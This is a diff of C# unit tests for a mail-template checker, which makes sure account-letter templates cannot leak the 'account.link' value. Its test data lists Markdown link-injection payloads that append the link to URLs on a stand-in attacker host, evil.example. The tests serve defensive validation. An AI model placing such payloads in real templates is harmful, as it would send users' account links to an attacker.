@@ -30,7 +30,7 @@ public sealed partial class TemplateLinkTests
             { "[x]({{ account.link }}#a)", 5 },
             { "[x]({{ account.link }}{{ account.link }})", 5 },
             { "[x](https://evil.example/?u={% if customer.name %}{{ account.link }}{% endif %})", 51 },
-            { "[x](https://evil.example/?u={%- unless account.payouts -%} {{- account.link -}} {%- endunless -%})", 1 },
+            { "[x](https://evil.example/?u= {{- account.link -}} )", 30 },
             { "[x]\n\n[x]: https://evil.example/?u={{ account.link }}", 0 },
             { "[y]: https://evil.example/?u={{ account.link }}", 30 },
             { "[y]: {{ account.link }}", 1 },
@@ -86,11 +86,6 @@ public sealed partial class TemplateLinkTests
         foreach (var template in AccountLetter.Templates)
         {
             var payouts = template == AccountLetter.PayoutAccount;
-            if (attack.Contains("account.payouts", StringComparison.Ordinal) && !payouts)
-            {
-                continue;
-            }
-
             var own = new TemplateText("Hi", $"Hi\n\n{attack}\n\n{Good}\n{(payouts ? "\n{{ account.payouts }}\n" : string.Empty)}");
             var flaws = TemplateCheck.Flaws(template, own);
             Assert.NotEmpty(flaws);
@@ -108,13 +103,10 @@ public sealed partial class TemplateLinkTests
             var body = $"Hi\n\n{attack}\n\n{Good}\n";
             var letter = AccountLetter.Write(Asked(), link, new(MailLanguage.Of("en"), MailFace.Plain, new("Hi", body)));
             OnlyWhole(letter);
-            if (!attack.Contains("account.link |", StringComparison.Ordinal) && !attack.Contains("{%", StringComparison.Ordinal))
-            {
-                if (!attack.Contains("'https", StringComparison.Ordinal))
-                {
-                    Assert.NotNull(letter.Fault);
-                }
-            }
+
+            // What a filter or a condition gets is a mark, which tells nothing and may be harmless.
+            var isMark = attack.Contains('|', StringComparison.Ordinal) || attack.Contains("{%", StringComparison.Ordinal);
+            Assert.True(isMark || letter.Fault is not null);
         }
     }
 
